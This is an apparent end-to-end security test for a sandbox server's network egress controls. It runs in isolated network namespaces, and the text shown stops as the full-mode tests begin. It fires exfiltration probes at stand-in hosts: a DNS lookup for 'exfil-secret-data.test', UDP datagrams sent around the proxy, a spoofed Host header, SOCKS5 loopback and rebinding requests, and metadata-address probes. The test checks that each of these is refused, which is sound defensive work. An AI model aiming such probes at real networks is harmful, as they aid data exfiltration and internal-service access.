#!/usr/bin/env python3
"""Network modes (issue 6) attacked end to end through `agentbox serve`:
allowlist boxes behind the server's egress proxy, full boxes behind a veth
pair with NAT, and policies changed on running boxes.

Nothing here can send a packet off this machine. Before anything else the
test moves itself (and so the server and every box it starts) into a network
namespace and a mount namespace of its own: the only links are loopback and
the veth pairs this file makes. "Outside" is a second namespace joined by a
veth at documentation addresses (198.51.100.0/24); its servers log every
request and datagram they get. Names resolve through a DNS server this file
runs on its own loopback (its /etc/resolv.conf is bind-mounted over), which
logs every query: that is how "an unlisted name is never resolved" (no DNS
exfiltration through the proxy) is checked. Full mode's iptables rules land
in the test's namespace and go with it.

allowlist: allowed host reachable (plain HTTP and CONNECT), the request the
origin gets is rewritten (origin-form, Host from the URL, no Proxy-* headers),
wildcard rules match subdomains only, deny beats allow, case and trailing
dots do not matter, unlisted hosts refused (403, network.denied event with
box/host/port, metric) and never looked up, names resolving to loopback,
private or metadata addresses refused (rebinding), raw TCP, UDP and DNS from
the box go nowhere, npm and pip install through the proxy, rule changes cut
open tunnels, mode none closes the proxy, a server killed with -9 serves the
proxy again after restart.
full: the outside is reachable (NATed), the host's own services, the
metadata address and other boxes are not; back to none removes the link.
"""
import atexit
import ctypes
import hashlib
import base64
import io
import json
import os
import socket
import struct
import subprocess
import sys
import tarfile
import threading
import time
import zipfile

# ---- our own network and mount namespaces, before any thread exists --------------
CLONE_NEWNS, CLONE_NEWNET = 0x00020000, 0x40000000
_libc = ctypes.CDLL(None, use_errno=True)
_isolated = os.geteuid() == 0 and _libc.unshare(CLONE_NEWNS | CLONE_NEWNET) == 0
if _isolated:
    _isolated = subprocess.run(["mount", "--make-rprivate", "/"]).returncode == 0 and \
        subprocess.run(["ip", "link", "set", "lo", "up"]).returncode == 0

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
import abserver  # noqa: E402

h = abserver.ServerHarness(budget=280)
if not _isolated:
    h.skip_all("needs root to make its own network and mount namespaces (nothing may leave the machine)")

OUT_IP, HOST_IP = "198.51.100.10", "198.51.100.1"
META_NS_IP = "198.51.100.130"
tag = "%x" % (os.getpid() & 0xffff)
NS_OUT, NS_META = "abeo-" + tag, "abem-" + tag


def sh(*args, timeout=30):
    return subprocess.run(list(args), capture_output=True, text=True, timeout=timeout)


# ---- DNS: a resolver on our loopback that logs every query ------------------------
NAMES = {
    "allowed.test": OUT_IP, "a.svc.test": OUT_IP, "deep.a.svc.test": OUT_IP, "svc.test": OUT_IP,
    "bad.svc.test": OUT_IP, "other.test": OUT_IP, "registry.test": OUT_IP, "pypi.test": OUT_IP,
    "exfil-secret-data.test": OUT_IP, "deb.test": OUT_IP,
    "rebind.test": "127.0.0.1", "private.test": "10.1.2.3", "meta.test": "169.254.169.254",
}
dns_log = []
dns_sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
dns_sock.bind(("127.0.0.1", 53))


def dns_loop():
    while True:
        try:
            q, addr = dns_sock.recvfrom(2048)
        except OSError:
            return
        try:
            qid, _flags, qd = struct.unpack(">HHH", q[:6])
            i, labels = 12, []
            while q[i]:
                labels.append(q[i + 1:i + 1 + q[i]].decode())
                i += 1 + q[i]
            qtype = struct.unpack(">H", q[i + 1:i + 3])[0]
            question = q[12:i + 5]
            name = ".".join(labels).lower()
            dns_log.append(name)
            ip = NAMES.get(name)
            rcode = 0 if ip else 3
            ans = b""
            if ip and qtype == 1:
                ans = b"\xc0\x0c" + struct.pack(">HHIH", 1, 1, 5, 4) + socket.inet_aton(ip)
            flags = 0x8180 | rcode
            dns_sock.sendto(struct.pack(">HHHHHH", qid, flags, 1, 1 if ans else 0, 0, 0) + question + ans, addr)
        except (IndexError, struct.error, UnicodeDecodeError):
            continue


threading.Thread(target=dns_loop, daemon=True).start()
resolv = os.path.join(h.root, "resolv.conf")
with open(resolv, "w") as f:
    f.write("nameserver 127.0.0.1\noptions timeout:1 attempts:1\n")
if sh("mount", "--bind", resolv, "/etc/resolv.conf").returncode != 0:
    h.skip_all("cannot bind-mount a test resolv.conf in the test's mount namespace")

# ---- the outside: a namespace at 198.51.100.10 with logging servers ---------------
OUT_LOG = os.path.join(h.root, "outside.log")
webroot = h.new_data_dir("web")
OUTSIDE = r'''
import json, os, socket, sys, threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
LOG, ROOT, IP = sys.argv[1], sys.argv[2], sys.argv[3]
lock = threading.Lock()
def log(**kw):
    with lock, open(LOG, "a") as f:
        f.write(json.dumps(kw) + "\n")
class H(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def do_GET(self):
        log(kind="http", line=self.requestline, headers=dict(self.headers), peer=self.client_address[0])
        path = os.path.join(ROOT, self.path.lstrip("/").split("?")[0])
        if os.path.isdir(path):
            path = os.path.join(path, "index.html")
        if not os.path.isfile(path) and self.path.startswith(("/deb/", "/simple/", "/npm/")):
            self.send_response(404)
            self.send_header("Content-Length", "0")
            self.end_headers()
            return
        body = open(path, "rb").read() if os.path.isfile(path) else ("hello from outside " + self.path).encode()
        self.send_response(200)
        if path.endswith(".html"):
            self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
    def log_message(self, *a):
        pass
class S(ThreadingHTTPServer):
    def server_bind(self):
        socket.socket.bind(self.socket, self.server_address)  # no getfqdn: no DNS
        self.server_name, self.server_port = IP, self.server_address[1]
srv = S((IP, 80), H)
def echo():
    s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); s.bind((IP, 7000)); s.listen(16)
    while True:
        c, a = s.accept()
        log(kind="tcp7000", peer=a[0])
        def pump(c=c):
            while True:
                d = c.recv(4096)
                if not d:
                    break
                c.sendall(d)
            c.close()
        threading.Thread(target=pump, daemon=True).start()
def udp(port):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind((IP, port))
    while True:
        d, a = s.recvfrom(4096)
        log(kind="udp%d" % port, peer=a[0], data=d[:64].hex())
for t in (echo, lambda: udp(53), lambda: udp(5353)):
    threading.Thread(target=t, daemon=True).start()
log(kind="ready")
srv.serve_forever()
'''
out_script = os.path.join(h.root, "outside.py")
with open(out_script, "w") as f:
    f.write(OUTSIDE)
setup = [
    ("ip", "netns", "add", NS_OUT),
    ("ip", "link", "add", "abeoa" + tag, "type", "veth", "peer", "name", "abeob" + tag),
    ("ip", "link", "set", "abeob" + tag, "netns", NS_OUT),
    ("ip", "addr", "add", HOST_IP + "/25", "dev", "abeoa" + tag),
    ("ip", "link", "set", "abeoa" + tag, "up"),
    ("ip", "netns", "exec", NS_OUT, "ip", "addr", "add", OUT_IP + "/25", "dev", "abeob" + tag),
    ("ip", "netns", "exec", NS_OUT, "ip", "link", "set", "abeob" + tag, "up"),
    ("ip", "netns", "exec", NS_OUT, "ip", "link", "set", "lo", "up"),
    # the metadata address, reachable from the host side only through another namespace
    ("ip", "netns", "add", NS_META),
    ("ip", "link", "add", "abema" + tag, "type", "veth", "peer", "name", "abemb" + tag),
    ("ip", "link", "set", "abemb" + tag, "netns", NS_META),
    ("ip", "addr", "add", "198.51.100.129/25", "dev", "abema" + tag),
    ("ip", "link", "set", "abema" + tag, "up"),
    ("ip", "route", "add", "169.254.169.254/32", "via", META_NS_IP),
    ("ip", "netns", "exec", NS_META, "ip", "addr", "add", META_NS_IP + "/25", "dev", "abemb" + tag),
    ("ip", "netns", "exec", NS_META, "ip", "addr", "add", "169.254.169.254/32", "dev", "abemb" + tag),
    ("ip", "netns", "exec", NS_META, "ip", "link", "set", "abemb" + tag, "up"),
    ("ip", "netns", "exec", NS_META, "ip", "route", "add", "198.51.100.0/24", "via", "198.51.100.129"),
]
procs = []


def cleanup_netns():
    for p in procs:
        p.kill()
        p.wait()
    procs.clear()
    for ns in (NS_OUT, NS_META):
        sh("ip", "netns", "del", ns)
        try:  # the name file lives in the host's /run even though our mounts do not
            os.unlink("/run/netns/" + ns)
        except OSError:
            pass


atexit.register(cleanup_netns)


for c in setup:
    r = sh(*c)
    if r.returncode != 0:
        cleanup_netns()
        h.skip_all("cannot build the test network (%s: %s)" % (" ".join(c), r.stderr.strip()))
py = abserver.HOST_PY if hasattr(abserver, "HOST_PY") else "/usr/bin/python3"
procs.append(subprocess.Popen(["ip", "netns", "exec", NS_OUT, py, out_script, OUT_LOG, webroot, OUT_IP],
                              stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL))
meta_hits = []
procs.append(subprocess.Popen(["ip", "netns", "exec", NS_META, py, "-c",
                               "import socket,sys\ns=socket.socket();s.bind(('169.254.169.254',80));s.listen(8)\n"
                               "print('ready',flush=True)\nwhile True:\n c,a=s.accept();print('hit',a[0],flush=True);"
                               "c.sendall(b'HTTP/1.0 200 OK\\r\\n\\r\\nmeta-secret');c.close()"],
                              stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True))


def meta_reader(p=procs[-1]):
    for line in p.stdout:
        meta_hits.append(line.strip())


threading.Thread(target=meta_reader, daemon=True).start()


def outside_log():
    try:
        with open(OUT_LOG) as f:
            return [json.loads(line) for line in f if line.strip()]
    except (OSError, ValueError):
        return []


if not abserver.wait_for(lambda: any(e["kind"] == "ready" for e in outside_log()), timeout=15) or \
        not abserver.wait_for(lambda: "ready" in meta_hits, timeout=15):
    cleanup_netns()
    h.bail_out("the outside test servers did not start")

# the host's own service, listening on every address of the "host" namespace
host_hits = []
host_srv = socket.socket()
host_srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
host_srv.bind(("0.0.0.0", 0))
host_srv.listen(16)
HOST_PORT = host_srv.getsockname()[1]


def host_loop():
    while True:
        try:
            c, a = host_srv.accept()
        except OSError:
            return
        host_hits.append(a[0])
        c.close()


threading.Thread(target=host_loop, daemon=True).start()

# controls: the test network works from the "host" (so the refusals below mean something)
try:
    with socket.create_connection((OUT_IP, 80), timeout=5) as c:
        c.sendall(b"GET /control HTTP/1.0\r\n\r\n")
        got = b""
        while b"hello from outside" not in got:
            d = c.recv(4096)
            if not d:
                break
            got += d
        h.ok(b"hello from outside" in got, "control: the host reaches the outside test server", repr(got))
    with socket.create_connection(("169.254.169.254", 80), timeout=5) as c:
        h.ok(b"meta-secret" in c.recv(4096), "control: the host reaches the stand-in metadata server")
    # the reader thread logs the control's own connection: wait for it, then forget it
    abserver.wait_for(lambda: any(x.startswith("hit") for x in meta_hits), timeout=10)
    meta_hits.clear()
    meta_hits.append("ready")
    h.ok(socket.gethostbyname("allowed.test") == OUT_IP, "control: the test resolver answers")
except OSError as e:
    cleanup_netns()
    h.bail_out("the test network does not work from the host: %s" % e)

# ---- npm and pip registries on the outside -----------------------------------------
os.makedirs(os.path.join(webroot, "npm"), exist_ok=True)
pkg = io.BytesIO()
with tarfile.open(fileobj=pkg, mode="w:gz") as t:
    for name, data in (("package/package.json", b'{"name":"abtest-pkg","version":"1.0.0","main":"index.js"}'),
                       ("package/index.js", b"module.exports = 'abtest-pkg works';\n")):
        ti = tarfile.TarInfo(name)
        ti.size = len(data)
        t.addfile(ti, io.BytesIO(data))
tgz = pkg.getvalue()
with open(os.path.join(webroot, "npm", "abtest-pkg-1.0.0.tgz"), "wb") as f:
    f.write(tgz)
packument = {"name": "abtest-pkg", "dist-tags": {"latest": "1.0.0"}, "versions": {"1.0.0": {
    "name": "abtest-pkg", "version": "1.0.0", "main": "index.js",
    "dist": {"tarball": "http://registry.test/npm/abtest-pkg-1.0.0.tgz",
             "shasum": hashlib.sha1(tgz).hexdigest(),
             "integrity": "sha512-" + base64.b64encode(hashlib.sha512(tgz).digest()).decode()}}}}
with open(os.path.join(webroot, "abtest-pkg"), "w") as f:
    json.dump(packument, f)
whl_name = "abtest_pkg-1.0-py3-none-any.whl"
whl = io.BytesIO()
with zipfile.ZipFile(whl, "w") as z:
    z.writestr("abtest_pkg/__init__.py", "WORKS = 'abtest-pkg via pip'\n")
    z.writestr("abtest_pkg-1.0.dist-info/METADATA", "Metadata-Version: 2.1\nName: abtest-pkg\nVersion: 1.0\n")
    z.writestr("abtest_pkg-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nGenerator: abtest\nRoot-Is-Purelib: true\n"
                                                 "Tag: py3-none-any\n")
    z.writestr("abtest_pkg-1.0.dist-info/RECORD", "")
os.makedirs(os.path.join(webroot, "simple", "abtest-pkg"), exist_ok=True)
with open(os.path.join(webroot, whl_name), "wb") as f:
    f.write(whl.getvalue())
with open(os.path.join(webroot, "simple", "abtest-pkg", "index.html"), "w") as f:
    f.write('<html><body><a href="http://pypi.test/%s#sha256=%s">%s</a></body></html>' % (
        whl_name, hashlib.sha256(whl.getvalue()).hexdigest(), whl_name))

# a flat apt repository with one package, built with dpkg-deb
deb_ok = False
debdir = os.path.join(h.root, "debpkg")
os.makedirs(os.path.join(debdir, "DEBIAN"))
os.makedirs(os.path.join(debdir, "usr", "share", "abtest-deb"))
with open(os.path.join(debdir, "DEBIAN", "control"), "w") as f:
    f.write("Package: abtest-deb\nVersion: 1.0\nArchitecture: all\nMaintainer: abtest <t@t>\n"
            "Description: agentbox egress test package\n")
with open(os.path.join(debdir, "usr", "share", "abtest-deb", "hello"), "w") as f:
    f.write("abtest-deb via apt\n")
os.makedirs(os.path.join(webroot, "deb"), exist_ok=True)
deb_path = os.path.join(webroot, "deb", "abtest-deb_1.0_all.deb")
if sh("dpkg-deb", "--root-owner-group", "-b", debdir, deb_path).returncode == 0:
    data = open(deb_path, "rb").read()
    stanza = ("Package: abtest-deb\nVersion: 1.0\nArchitecture: all\nMaintainer: abtest <t@t>\n"
              "Filename: ./abtest-deb_1.0_all.deb\nSize: %d\nSHA256: %s\n"
              "Description: agentbox egress test package\n\n" % (len(data), hashlib.sha256(data).hexdigest()))
    with open(os.path.join(webroot, "deb", "Packages"), "w") as f:
        f.write(stanza)
    pk = stanza.encode()
    with open(os.path.join(webroot, "deb", "Release"), "w") as f:
        f.write("Origin: abtest\nLabel: abtest\nSuite: ./\nCodename: abtest\nArchitectures: all\n"
                "SHA256:\n %s %d Packages\n" % (hashlib.sha256(pk).hexdigest(), len(pk)))
    deb_ok = True

# ---- the server ------------------------------------------------------------------------
S = h.start_server(config={"network_full": True})
events = S.sse("/v1/events?types=network.denied,box.network")


def ex(box, cmd, t=30):
    r = S.exec(box, cmd, timeout_s=t, http_timeout=t + 30)
    return r


def out_of(r):
    return (r.get("stdout") or "") + (r.get("stderr") or "") if isinstance(r.json, dict) else r.describe()


def curl(box, url, *extra, t=10):
    return ex(box, "curl -sS -m %d %s %s" % (t, " ".join(extra), url), t=t + 10)


POLICY = {"mode": "allowlist",
          "allow": ["allowed.test", "*.svc.test", "registry.test", "pypi.test", "deb.test", "rebind.test",
                    "private.test", "meta.test", "allowed.test:7000"],
          "deny": ["bad.svc.test"]}
r = S.post("/v1/sandboxes", {"id": "egress-a", "network": POLICY})
h.eq(r.status, 201, "a box in allowlist mode is created", r.describe())
h.eq((r.get("network") or {}).get("mode"), "allowlist", "... and reports its policy", r.describe())
h.eq((r.get("network") or {}).get("deny"), ["bad.svc.test"], "... with its deny rules", r.describe())

r = ex("egress-a", "env | grep -i _proxy= | sort")
h.ok("HTTP_PROXY=http://127.0.0.1:3128" in out_of(r) and "https_proxy=http://127.0.0.1:3128" in out_of(r)
     and "NO_PROXY=localhost,127.0.0.1,::1" in out_of(r), "commands in the box get the proxy variables", out_of(r))

# allowed, plain HTTP: reached, and the origin sees a rewritten request
mark = len(outside_log())
r = curl("egress-a", "http://allowed.test/plain?q=1", "-H", "'Host: evil.example'", "-H",
         "'Proxy-Authorization: Basic c2VjcmV0'")
h.ok("hello from outside /plain?q=1" in out_of(r), "an allowed host is reached through the proxy", out_of(r))
got = [e for e in outside_log()[mark:] if e["kind"] == "http"]
h.ok(got and got[-1]["line"] == "GET /plain?q=1 HTTP/1.1", "the origin gets an origin-form request line",
     json.dumps(got[-1:]))
hdrs = {k.lower(): v for k, v in (got[-1]["headers"] if got else {}).items()}
h.eq(hdrs.get("host"), "allowed.test", "the Host header is the URL's host (no domain fronting)", json.dumps(hdrs))
h.ok("proxy-authorization" not in hdrs and hdrs.get("connection") == "close",
     "Proxy-* headers are dropped and the connection closes after one request", json.dumps(hdrs))

# CONNECT
r = curl("egress-a", "http://allowed.test/tunnel", "-p")
h.ok("hello from outside /tunnel" in out_of(r), "CONNECT to an allowed host works (curl --proxytunnel)", out_of(r))
ECHO = r'''
import socket, sys
s = socket.create_connection(("127.0.0.1", 3128), timeout=10)
s.sendall(("CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (sys.argv[1], sys.argv[1])).encode())
head = b""
while b"\r\n\r\n" not in head:
    d = s.recv(4096)
    if not d:
        break
    head += d
print(head.split(b"\r\n")[0].decode())
if b" 200 " in head.split(b"\r\n")[0]:
    s.sendall(b"ping-through-tunnel")
    print(s.recv(100).decode())
'''
import attacklib as al  # noqa: E402


def bpy(box, script, *args, t=20):
    return ex(box, al.py_cmd(script, *args), t=t)


r = bpy("egress-a", ECHO, "allowed.test:7000")
h.ok("200" in out_of(r) and "ping-through-tunnel" in out_of(r),
     "a raw TCP tunnel through CONNECT reaches an allowed host:port", out_of(r))
r = bpy("egress-a", ECHO, "other.test:7000")
h.ok("403" in out_of(r) and "ping-through" not in out_of(r), "CONNECT to an unlisted host answers 403", out_of(r))

# SOCKS5 on the same port: names go to the proxy (socks5h) and are decided the same way
r = curl("egress-a", "http://allowed.test/socks", "--socks5-hostname", "127.0.0.1:3128")
h.ok("hello from outside /socks" in out_of(r), "SOCKS5 (remote names) to an allowed host works", out_of(r))
r = ex("egress-a", "curl -sS -m 5 --socks5-hostname 127.0.0.1:3128 http://other.test/socks; echo rc=$?")
h.ok("hello from outside" not in out_of(r) and "rc=0" not in out_of(r), "SOCKS5 to an unlisted host is refused",
     out_of(r))
SOCKS = r'''
import socket, struct
def req(cmd, atyp_addr):
    s = socket.create_connection(("127.0.0.1", 3128), timeout=10)
    s.sendall(b"\x05\x01\x00")
    assert s.recv(2) == b"\x05\x00"
    s.sendall(b"\x05" + bytes([cmd]) + b"\x00" + atyp_addr)
    return s.recv(10)[:2]
print("udp", req(3, b"\x01" + socket.inet_aton("198.51.100.10") + struct.pack(">H", 5353)).hex())
print("bind", req(2, b"\x01" + socket.inet_aton("198.51.100.10") + struct.pack(">H", 80)).hex())
print("v4-internal", req(1, b"\x01" + socket.inet_aton("127.0.0.1") + struct.pack(">H", %d)).hex())
print("rebind", req(1, b"\x03" + bytes([11]) + b"rebind.test" + struct.pack(">H", %d)).hex())
''' % (HOST_PORT, HOST_PORT)
r = bpy("egress-a", SOCKS)
h.ok("udp 0507" in out_of(r) and "bind 0507" in out_of(r),
     "SOCKS5 UDP ASSOCIATE and BIND are refused (command not supported)", out_of(r))
h.ok("v4-internal 0502" in out_of(r) and "rebind 0502" in out_of(r),
     "SOCKS5 to loopback, literally or by a rebinding name, is refused (not allowed by ruleset)", out_of(r))

# rules: case, trailing dot, wildcard, deny
for url, want in (("http://ALLOWED.Test/case", True), ("http://allowed.test./dot", True),
                  ("http://a.svc.test/w1", True), ("http://deep.a.svc.test/w2", True),
                  ("http://svc.test/w3", False), ("http://bad.svc.test/w4", False),
                  ("http://other.test/w5", False), ("http://allowed.test:7000/port", True)):
    r = curl("egress-a", url, "-o", "/dev/null", "-w", "'%{http_code}'")
    code = out_of(r).strip()[-3:]
    if want:
        h.ok(code != "403", "%s is allowed (got %s)" % (url, code), out_of(r))
    else:
        h.eq(code, "403", "%s is refused with 403" % url, out_of(r))
r = curl("egress-a", "http://bad.svc.test/why")
h.ok("deny rule" in out_of(r) and "bad.svc.test" in out_of(r), "the refusal says which rule denied it", out_of(r))

# DNS: an unlisted name is never looked up by the proxy; allowed ones are
dns_log.clear()
r = curl("egress-a", "http://exfil-secret-data.test/x", "-o", "/dev/null", "-w", "'%{http_code}'")
h.eq(out_of(r).strip()[-3:], "403", "an unlisted name is refused", out_of(r))
r = curl("egress-a", "http://allowed.test/dns-check")
h.ok("exfil-secret-data.test" not in dns_log, "... and never reaches a DNS resolver (no exfiltration)", str(dns_log))
h.ok("allowed.test" in dns_log, "control: allowed names are resolved by the proxy through the resolver",
     str(dns_log))

# rebinding and internal addresses
for name, why in (("rebind.test", "loopback"), ("private.test", "private"), ("meta.test", "metadata")):
    r = curl("egress-a", "http://%s:%d/" % (name, HOST_PORT))
    h.ok("403" in out_of(r) or "not allowed" in out_of(r), "%s (allowed by rule) resolving to an internal address "
         "is refused" % name, out_of(r))
    h.ok(why in out_of(r), "... saying why (%s)" % why, out_of(r))
r = S.post("/v1/sandboxes", {"id": "egress-star", "network": {"mode": "allowlist", "allow": ["*"]}})
h.eq(r.status, 201, "a box allowing every host ('*') is created", r.describe())
for target in ("127.0.0.1:%d" % HOST_PORT, "[::1]:%d" % HOST_PORT, "10.0.0.1:80", "169.254.169.254:80",
               "localhost:%d" % HOST_PORT, "0.0.0.0:%d" % HOST_PORT, "[::ffff:127.0.0.1]:%d" % HOST_PORT):
    r = bpy("egress-star", ECHO, target)
    h.ok("403" in out_of(r), "allow '*' still refuses CONNECT %s" % target, out_of(r))
h.eq(host_hits, [], "the host's own service got no connection from any box")
h.ok(not [x for x in meta_hits if x.startswith("hit")], "the metadata stand-in got no connection", str(meta_hits))

# bypass: no route but the proxy
BYPASS = r'''
import socket
res = {}
for name, fam, addr in (("tcp", socket.SOCK_STREAM, ("198.51.100.10", 80)),
                        ("tcp-host", socket.SOCK_STREAM, ("198.51.100.1", %d))):
    s = socket.socket(socket.AF_INET, fam); s.settimeout(3)
    try:
        s.connect(addr); res[name] = "CONNECTED"
    except OSError as e:
        res[name] = type(e).__name__ + ":" + str(e.errno)
for port in (53, 5353):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        s.sendto(b"exfil-udp-%%d" %% port, ("198.51.100.10", port)); res["udp%%d" %% port] = "SENT"
    except OSError as e:
        res["udp%%d" %% port] = type(e).__name__ + ":" + str(e.errno)
try:
    res["dns"] = socket.gethostbyname("allowed.test")
except OSError as e:
    res["dns"] = "ERR"
print(res)
''' % HOST_PORT
mark = len(outside_log())
r = bpy("egress-a", BYPASS)
h.ok("CONNECTED" not in out_of(r) and "'dns': 'ERR'" in out_of(r),
     "raw TCP around the proxy, to the outside and to the host, and the box's own DNS lookups fail", out_of(r))
time.sleep(0.5)
h.eq([e for e in outside_log()[mark:] if e["kind"] in ("udp53", "udp5353", "tcp7000", "http")], [],
     "no datagram or connection from the box reached the outside", out_of(r))
r = ex("egress-a", "curl -sS -m 5 --noproxy '*' http://198.51.100.10/; echo rc=$?")
h.ok("rc=0" not in out_of(r), "curl told to ignore the proxy gets nowhere", out_of(r))

# events and metrics
evs = events.collect(until=lambda e: e.type == "network.denied" and ((e.json or {}).get("data") or {}).get(
    "host") == "other.test", timeout=5)
den = [e.json for e in evs if e.type == "network.denied" and e.json]
h.ok(any(d.get("box_id") == "egress-a" and d["data"].get("host") == "other.test" and d["data"].get("port") == 7000
         for d in den), "a denial is a network.denied event with box, host and port", json.dumps(den[:3]))
m = S.metrics() or []
h.ok((abserver.metric_sum(m, "agentbox_proxy_connections_total", result="denied") or 0) >= 5 and
     (abserver.metric_sum(m, "agentbox_proxy_connections_total", result="allowed") or 0) >= 3,
     "agentbox_proxy_connections_total counts allowed and denied connections")

# a flood of denials does not flood the event bus
FLOOD = r'''
import socket
for i in range(200):
    s = socket.create_connection(("127.0.0.1", 3128), timeout=10)
    s.sendall(b"GET http://flood-%d.test/ HTTP/1.1\r\n\r\n" % i)
    while s.recv(4096):
        pass
    s.close()
print("flooded")
'''
events.collect(timeout=0.5)  # drain
r = bpy("egress-a", FLOOD, t=60)
h.ok("flooded" in out_of(r), "a box sends 200 denied requests", out_of(r))
time.sleep(1.2)
curl("egress-a", "http://after-flood.test/")
evs = events.collect(until=lambda e: ((e.json or {}).get("data") or {}).get("host") == "after-flood.test",
                     timeout=10)
flood = [e for e in evs if ((e.json or {}).get("data") or {}).get("host", "").startswith("flood-")]
after = [e.json for e in evs if ((e.json or {}).get("data") or {}).get("host") == "after-flood.test"]
h.ok(0 < len(flood) < 200, "denial events are rate-limited per box (%d of 200 emitted)" % len(flood))
suppressed = sum(((e.json or {}).get("data") or {}).get("suppressed_before", 0) for e in evs)
h.ok(after and suppressed + len(flood) == 200,
     "the events that follow count the suppressed ones (%d + %d)" % (len(flood), suppressed), json.dumps(after[:1]))

# npm and pip through the proxy
r = ex("egress-a", "mkdir -p /tmp/npmt && cd /tmp/npmt && HOME=/tmp/npmt npm install --no-audit --no-fund "
       "--registry http://registry.test/ abtest-pkg 2>&1 | tail -3; node -e \"console.log(require('abtest-pkg'))\"",
       t=90)
h.ok("abtest-pkg works" in out_of(r), "npm install works through the proxy (registry listed)", out_of(r)[-1500:])
r = ex("egress-a", "python3 -m pip download --no-deps --disable-pip-version-check --no-cache-dir "
       "--index-url http://pypi.test/simple/ --trusted-host pypi.test -d /tmp/pipdl abtest-pkg 2>&1 | tail -2; "
       "ls /tmp/pipdl", t=90)
h.ok(whl_name in out_of(r), "pip downloads a package through the proxy (index listed)", out_of(r)[-1500:])

if deb_ok:
    APT = ("A='-o Dir::Etc::SourceList=/tmp/apt/sources.list -o Dir::Etc::SourceParts=/dev/null "
           "-o Dir::State::Lists=/tmp/apt/lists -o Dir::Cache=/tmp/apt/cache -o Debug::NoLocking=1 "
           "-o APT::Sandbox::User=root'; mkdir -p /tmp/apt/lists/partial /tmp/apt/cache/archives/partial "
           "/tmp/aptdl && echo 'deb [trusted=yes] http://deb.test/deb ./' > /tmp/apt/sources.list && "
           "apt-get $A update 2>&1 | tail -3 && cd /tmp/aptdl && apt-get $A download abtest-deb 2>&1 | tail -2; "
           "ls /tmp/aptdl")
    r = ex("egress-a", APT, t=90)
    h.ok("abtest-deb_1.0_all.deb" in out_of(r), "apt-get update and download work through the proxy (repository "
         "listed)", out_of(r)[-1500:])
else:
    h.skip("apt through the proxy", "dpkg-deb could not build the test package")

# a rule change cuts open tunnels; new rules decide new connections
HOLD = r'''
import socket, time, sys
s = socket.create_connection(("127.0.0.1", 3128), timeout=30)
s.sendall(b"CONNECT allowed.test:7000 HTTP/1.1\r\n\r\n")
head = b""
while b"\r\n\r\n" not in head:
    head += s.recv(4096)
print("open", head.split(b"\r\n")[0].decode(), flush=True)
open("/tmp/hold.ready", "w").close()
t0 = time.time()
try:
    while time.time() - t0 < 25:
        s.sendall(b"x")
        if not s.recv(10):
            print("cut"); break
        time.sleep(0.2)
    else:
        print("still-open")
except OSError as e:
    print("cut", e)
'''
holder = {}


def hold():
    holder["r"] = bpy("egress-a", HOLD, t=40)


th = threading.Thread(target=hold)
th.start()
ready = abserver.wait_for(lambda: ex("egress-a", "test -e /tmp/hold.ready && echo yes").get("stdout", "")
                          .strip() == "yes", timeout=20, step=0.3)
h.ok(ready, "a long-lived tunnel is open")
r = S.put("/v1/sandboxes/egress-a/network", {"mode": "allowlist", "allow": ["other.test"]})
h.eq(r.status, 200, "PUT /v1/sandboxes/{id}/network changes the rules of a running box", r.describe())
h.eq((r.get("network") or {}).get("allow"), ["other.test"], "... and answers the new policy", r.describe())
th.join(60)
h.ok("cut" in out_of(holder.get("r")) if holder.get("r") else False,
     "the open tunnel was cut by the rule change", out_of(holder["r"]) if holder.get("r") else "no result")
r = curl("egress-a", "http://allowed.test/after", "-o", "/dev/null", "-w", "'%{http_code}'")
h.eq(out_of(r).strip()[-3:], "403", "the formerly allowed host is now refused", out_of(r))
r = curl("egress-a", "http://other.test/after")
h.ok("hello from outside /after" in out_of(r), "the newly allowed host is reached", out_of(r))
r = S.get("/v1/sandboxes/egress-a/network")
h.eq(r.get("allow"), ["other.test"], "GET .../network shows the policy", r.describe())
for bad, code in (({"mode": "sideways"}, 400), ({"mode": "allowlist", "allow": "x"}, 400),
                  ({"mode": "allowlist", "allow": ["a*b.test"]}, 400), ({"mode": "none", "extra": 1}, 400)):
    r = S.put("/v1/sandboxes/egress-a/network", bad)
    h.eq(r.status, code, "a bad policy %s is refused with %d" % (json.dumps(bad), code), r.describe())
h.eq((S.box("egress-a").get("network") or {}).get("allow"), ["other.test"], "... and changes nothing")
r = S.put("/v1/sandboxes/no-such-box/network", {"mode": "none"})
h.eq(r.status, 404, "PUT network of an unknown box is 404", r.describe())

# restart: kill -9, the proxy listener comes back
S.kill9()
S.start()
events = S.sse("/v1/events?types=network.denied,box.network")
r = curl("egress-a", "http://other.test/after-restart")
h.ok("hello from outside /after-restart" in out_of(r), "after kill -9 and restart the proxy serves the box again",
     out_of(r))
# stop / start: the new incarnation gets a listener too
S.post("/v1/sandboxes/egress-a/stop", {})
S.post("/v1/sandboxes/egress-a/start", {})
r = curl("egress-a", "http://other.test/after-start")
h.ok("hello from outside /after-start" in out_of(r), "after stop and start the proxy serves the box", out_of(r))

# back to none: nothing at all
r = S.put("/v1/sandboxes/egress-a/network", {"mode": "none"})
h.eq((r.get("network") or {}).get("mode"), "none", "the box is switched to mode none", r.describe())
r = ex("egress-a", "env | grep -ci _proxy=; curl -sS -m 5 -x http://127.0.0.1:3128 http://other.test/none; "
       "echo rc=$?")
h.ok(out_of(r).startswith("0") and "hello from outside" not in out_of(r) and "rc=7" in out_of(r),
     "in mode none the proxy port is closed and no proxy variables are set", out_of(r))

# ---- full mode ---------------------------------------------------------------------------
r = S.post("/v1/sandboxes", {"id": "egress-f", "network": {"mode": "full"}})
h.eq(r.status, 201, "a box in full mode is created", r.describe())
r = S.post("/v1/sandboxes", {"id": "egress-g", "network": {"mode": "full"}})
h.eq(r.status, 201, "a second full box is created", r.describe())
mark = len(outside_log())
